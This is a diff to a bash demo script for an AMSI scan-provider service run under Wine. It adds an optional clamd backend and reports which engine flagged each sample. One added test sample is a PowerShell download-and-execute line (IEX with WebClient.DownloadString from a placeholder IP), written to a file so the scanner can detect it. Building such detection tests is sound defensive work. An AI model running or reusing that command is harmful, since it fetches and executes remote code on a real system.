@@ -2,8 +2,9 @@
 # The main job: install the provider and the scan service into the project's
 # Wine prefix, register both DLLs, install the scan service as a Windows
 # service and start it through the service control manager, scan the
-# samples from a 64-bit and a 32-bit host, stop the service, show that a
-# copy of the service in another directory is not trusted, and uninstall.
+# samples from a 64-bit and a 32-bit host (with clamd behind the service
+# when it is installed), stop the service, show that a copy of the service
+# in another directory is not trusted, and uninstall.
 # Run by `make demo` after the build.
 set -euo pipefail
 here=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
@@ -22,6 +23,7 @@ data_win='C:\ProgramData\Kestrov'
 rogue_dir="$drive_c/Kestrov-copy"
 rogue_win='C:\Kestrov-copy'
 work="$here/build/demo"
+"$here/tools/clamd.sh" stop "$work/clamd" 2>/dev/null || true
 rm -rf "$work" "$rogue_dir"
 mkdir -p "$work/samples" "$install_dir" "$data_dir"
 
@@ -37,6 +39,7 @@ finish() {
     "$run" "$service_exe" --uninstall </dev/null >/dev/null 2>&1 || true
   fi
   wineserver -k >/dev/null 2>&1 || true
+  "$here/tools/clamd.sh" stop "$work/clamd" >/dev/null 2>&1 || true
 }
 trap finish EXIT
 
@@ -69,6 +72,17 @@ echo "   registered KestrovAmsi64.dll (64-bit view) and KestrovAmsi32.dll (32-bi
 rm -f "$data_dir"/scans.jsonl*
 printf '%s\r\n' '# Kestrov Scan Service; every key is an option of KestrovScanService --help.' \
   'log = scans.jsonl' 'log-max-bytes = 10485760' 'log-files = 5' >"$data_dir/KestrovScanService.conf"
+# clamd, when it is installed: one of the demo's own on loopback, with the
+# project's sample rules (a YARA rule among them), behind the service.
+clamd_port=""
+if command -v clamd >/dev/null 2>&1 || [ -x /usr/sbin/clamd ]; then
+  if "$here/tools/clamd.sh" start "$work/clamd" "$here/tools/clamd-rules" >/dev/null; then
+    clamd_port=$(cat "$work/clamd/port")
+    printf '%s\r\n' "clamd = 127.0.0.1:$clamd_port" >>"$data_dir/KestrovScanService.conf"
+    echo "   clamd on 127.0.0.1:$clamd_port with the rules of tools/clamd-rules, behind the service"
+  fi
+fi
+[ -n "$clamd_port" ] || echo "   no clamd here: the built-in rules only"
 "$run" "$service_exe" --install --config "$data_win\\KestrovScanService.conf" </dev/null 2>&1 | indent
 echo "   configuration $data_win\\KestrovScanService.conf, scan log $data_win\\scans.jsonl"
 
@@ -80,8 +94,13 @@ printf '\xff\xfe' >"$samples/amsi-sample.ps1"
 printf '%s\r\n' "Write-Host 'AMSI Test Sample: 7e72c3ce-861b-4339-8740-0ac1484c1386'" |
   iconv -f UTF-8 -t UTF-16LE >>"$samples/amsi-sample.ps1"
 printf '%s\r\n' 'Get-ChildItem C:\Windows | Measure-Object' 'Write-Host "done"' >"$samples/clean.ps1"
+# A download-and-run script, as a script host hands it over (UTF-16).
+printf '\xff\xfe' >"$samples/downloader.ps1"
+printf '%s\r\n' "\$u = 'http://198.51.100.7/stage2.ps1'" 'IEX (New-Object Net.WebClient).DownloadString($u)' |
+  iconv -f UTF-8 -t UTF-16LE >>"$samples/downloader.ps1"
 head -c $((9 * 1024 * 1024)) /dev/zero | tr '\0' 'a' >"$samples/large.txt"
-for f in eicar.com amsi-sample.ps1 clean.ps1 large.txt; do
+sample_names="eicar.com amsi-sample.ps1 clean.ps1 downloader.ps1 large.txt"
+for f in $sample_names; do
   printf '   %-16s %9d bytes\n' "$f" "$(stat -c %s "$samples/$f")"
 done
 
@@ -110,7 +129,7 @@ scan() {
 echo "== Scans"
 printf '   %-16s  %-6s  %-12s  %s\n' sample host verdict latency
 printf '   %-16s  %-6s  %-12s  %s\n' ---------------- ------ ------------ -------
-for f in eicar.com amsi-sample.ps1 clean.ps1 large.txt; do
+for f in $sample_names; do
   for arch in x64 x86; do
     dir=$x64
     [ "$arch" = x86 ] && dir=$x86
@@ -126,7 +145,15 @@ stop_started=$(now_ms)
 "$run" net stop KestrovScanService </dev/null >/dev/null 2>&1
 wait_for_state STOPPED
 echo "   KestrovScanService: STOPPED, $(($(now_ms) - stop_started)) ms after net stop began"
-echo "   the service logged $(wc -l <"$data_dir/scans.jsonl") scans; the large file's entry:"
+echo "   the service logged $(wc -l <"$data_dir/scans.jsonl") scans; which engine found what:"
+for f in $sample_names; do
+  line=$(grep -F "samples\\\\$f\"" "$data_dir/scans.jsonl" | head -n 1)
+  engine=$(sed -n 's/.*"engine":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
+  rule=$(sed -n 's/.*"rule":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
+  clamd=$(sed -n 's/.*"clamd":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
+  printf '   %-16s engine %-5s rule %-38s clamd: %s\n' "$f" "$engine" "$rule" "$clamd"
+done
+echo "   the large file's entry:"
 grep '"contentBytes":8388608' "$data_dir/scans.jsonl" | head -n 1 | indent
 
 echo "== A copy of the service in another directory ($rogue_win), in the foreground"
